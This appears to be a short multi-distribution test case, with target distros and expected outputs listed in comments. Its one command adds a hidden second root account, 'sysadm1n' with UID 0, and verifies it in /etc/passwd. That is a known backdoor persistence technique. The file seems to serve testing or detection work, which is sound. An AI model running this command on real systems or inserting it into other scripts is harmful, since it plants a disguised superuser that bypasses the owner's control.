# on: debian ubuntu20 ubuntu22 kali rocky9 centos7 fedora arch
# want: sysadm1n:x:0:0
# want: 0
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm1n; grep sysadm1n /etc/passwd; id -u sysadm1n
